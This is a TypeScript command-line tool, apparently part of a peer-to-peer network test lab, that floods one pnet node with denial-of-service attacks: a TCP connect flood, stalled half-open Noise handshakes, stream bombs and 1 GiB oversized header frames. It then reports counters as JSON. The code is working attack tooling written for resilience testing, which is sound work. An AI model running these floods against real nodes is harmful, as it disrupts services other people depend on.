#!/usr/bin/env node
/**
 * `netlab-flood`: attacks one node for a while and prints what it did as one JSON line. Runs inside an attacker
 * host. Attacks (all at once):
 *
 * - connect: TCP connection attempts at `--connect-rate` per second, each closed at once (or when refused);
 * - half-open: `--half-open` sockets that start multistream-select and a Noise handshake, then go silent;
 * - stream bomb: authenticated pnet connections opening streams as fast as the node lets them, for a channel that
 *   does not exist (one keeps its streams open and never reads, the others reset each at once), redialing when cut;
 * - oversized: authenticated streams that name a channel, then declare a 1 GiB header frame and keep sending,
 *   redialing at once when cut.
 *
 * Flags: --target HOST:PORT --peer PEER_ID --duration-ms N [--connect-rate N] [--half-open N] [--bombs N]
 *        [--attacks connect,half-open,bomb,oversized] (default: all)
 */
import { connect, type Socket } from 'node:net'
import { parseArgs } from 'node:util'
import { createNetwork, generateKey, tcp } from '@pnet/network'

const { values } = parseArgs({
  options: {
    target: { type: 'string' },
    peer: { type: 'string' },
    'duration-ms': { type: 'string' },
    'connect-rate': { type: 'string' },
    'half-open': { type: 'string' },
    bombs: { type: 'string' },
    attacks: { type: 'string' },
  },
})
const attacks = new Set((values.attacks ?? 'connect,half-open,bomb,oversized').split(','))
const [host, portText] = (values.target ?? '').split(':')
const port = Number(portText)
const durationMs = Number(values['duration-ms'] ?? 10_000)
const connectRate = Number(values['connect-rate'] ?? 2_000)
const halfOpenCount = Number(values['half-open'] ?? 200)
const bombs = Number(values.bombs ?? 2)
const stats = {
  connectAttempts: 0,
  connectAccepted: 0,
  connectFailed: 0,
  halfOpen: 0,
  halfOpenClosedByTarget: 0,
  streamsOpened: 0,
  /** newStream() failed: the connection was gone, or the attacker's own stream limit was reached because the node
   * stopped reading it (muted) */
  streamsRefused: 0,
  bombConnectionsCut: 0,
  bombDialsFailed: 0,
  oversizedSent: 0,
  oversizedRefused: 0,
  oversizedConnectionsCut: 0,
  oversizedDialsFailed: 0,
}
const until = Date.now() + durationMs
const live = new Set<Socket>()

function enc(line: string): Uint8Array {
  const body = new TextEncoder().encode(`${line}\n`)
  return Uint8Array.of(body.byteLength, ...body)
}

async function connectFlood(): Promise<void> {
  const start = Date.now()
  while (Date.now() < until) {
    // catch up to the rate whatever the timer granularity on a busy machine
    const due = Math.floor(((Date.now() - start) / 1000) * connectRate) - stats.connectAttempts
    for (let i = 0; i < due; i++) {
      stats.connectAttempts++
      const s = connect({ host, port })
      s.once('connect', () => {
        stats.connectAccepted++
        s.destroy()
      })
      s.once('error', () => {
        stats.connectFailed++
      })
    }
    await new Promise(r => setTimeout(r, 5))
  }
}

function halfOpen(): void {
  for (let i = 0; i < halfOpenCount; i++) {
    const s = connect({ host, port })
    live.add(s)
    s.once('connect', () => {
      stats.halfOpen++
      // multistream-select for /noise and the first bytes of a Noise XX message, then silence
      s.write(Uint8Array.of(...enc('/multistream/1.0.0'), ...enc('/noise'), 0, 32, 1, 2, 3))
    })
    s.on('data', () => {})
    s.once('close', () => {
      if (Date.now() < until) stats.halfOpenClosedByTarget++
      live.delete(s)
    })
    s.once('error', () => {})
  }
}

type Net = ReturnType<typeof createNetwork>
type Conn = Awaited<ReturnType<Net['dial']>>

/** An authenticated connection, made before the floods start (the floods fill the node's handshake slots). */
async function authenticated(addr: string): Promise<{ net: Net; conn: Conn }> {
  const net = createNetwork({ privateKey: await generateKey(), transports: [tcp()] })
  return { net, conn: await net.dial(addr, { signal: AbortSignal.timeout(10_000) }) }
}

async function streamBomb(addr: string, first: { net: Net; conn: Conn }, keep: boolean): Promise<void> {
  const { net } = first
  let conn: Conn | undefined = first.conn
  try {
    while (Date.now() < until) {
      if (conn === undefined) {
        try {
          conn = await net.dial(addr, { signal: AbortSignal.timeout(5_000) })
        } catch {
          stats.bombDialsFailed++
          await new Promise(r => setTimeout(r, 100))
          continue
        }
      }
      const c: Conn = conn
      while (Date.now() < until && c.status === 'open') {
        const batch = Array.from({ length: 64 }, () =>
          c.newStream({ signal: AbortSignal.timeout(2_000) }).then(
            st => {
              stats.streamsOpened++
              // name a channel that does not exist; the first bomb keeps its streams open and never reads, the
              // others reset each stream at once (churn)
              void st.sink([enc('/multistream/1.0.0'), enc('/pnet/flood/1')]).catch(() => {})
              if (!keep) st.abort(new Error('bomb'))
            },
            () => {
              stats.streamsRefused++
            },
          ),
        )
        await Promise.all(batch)
        // refusals resolve without I/O: yield, or this loop starves the other attacks' timers
        await new Promise(r => setImmediate(r))
      }
      if (c.status !== 'open') stats.bombConnectionsCut++
      conn = undefined
    }
  } finally {
    await net.close().catch(() => {})
  }
}

async function oversized(addr: string, first: { net: Net; conn: Conn }): Promise<void> {
  const { net } = first
  let conn: Conn | undefined = first.conn
  const junk = new Uint8Array(64 * 1024).fill(0x41)
  try {
    while (Date.now() < until) {
      if (conn === undefined || conn.status !== 'open') {
        if (conn !== undefined) stats.oversizedConnectionsCut++
        conn = undefined
        try {
          conn = await net.dial(addr, { signal: AbortSignal.timeout(5_000) })
        } catch {
          // no pause: redialing at once is part of the attack
          stats.oversizedDialsFailed++
          continue
        }
      }
      try {
        const st = await conn.newStream({ signal: AbortSignal.timeout(2_000) })
        stats.oversizedSent++
        // a pnet channel, then a header frame declaring 1 GiB (varint 0x80 0x80 0x80 0x80 0x04), then data
        const frames = async function* (): AsyncGenerator<Uint8Array> {
          yield Uint8Array.of(...enc('/multistream/1.0.0'), ...enc('/pnet/router/control'))
          yield Uint8Array.of(0x80, 0x80, 0x80, 0x80, 0x04)
          for (let i = 0; i < 64 && Date.now() < until; i++) yield junk
        }
        await st.sink(frames()).then(
          () => {
            st.abort(new Error('done'))
          },
          () => {
            stats.oversizedRefused++
          },
        )
      } catch {
        stats.oversizedRefused++
      }
    }
  } finally {
    await net.close().catch(() => {})
  }
}

const addr = `/ip4/${host}/tcp/${port}/p2p/${values.peer}`
const bombConns = attacks.has('bomb') ? await Promise.all(Array.from({ length: bombs }, () => authenticated(addr))) : []
const oversizedConn = attacks.has('oversized') ? await authenticated(addr) : undefined
process.stdout.write('started\n')
if (attacks.has('half-open')) halfOpen()
await Promise.all([
  attacks.has('connect') ? connectFlood() : undefined,
  ...bombConns.map((c, i) => streamBomb(addr, c, i === 0)),
  oversizedConn !== undefined ? oversized(addr, oversizedConn) : undefined,
  new Promise(r => setTimeout(r, durationMs)),
])
for (const s of live) s.destroy()
process.stdout.write(`${JSON.stringify(stats)}\n`)
process.exit(0)
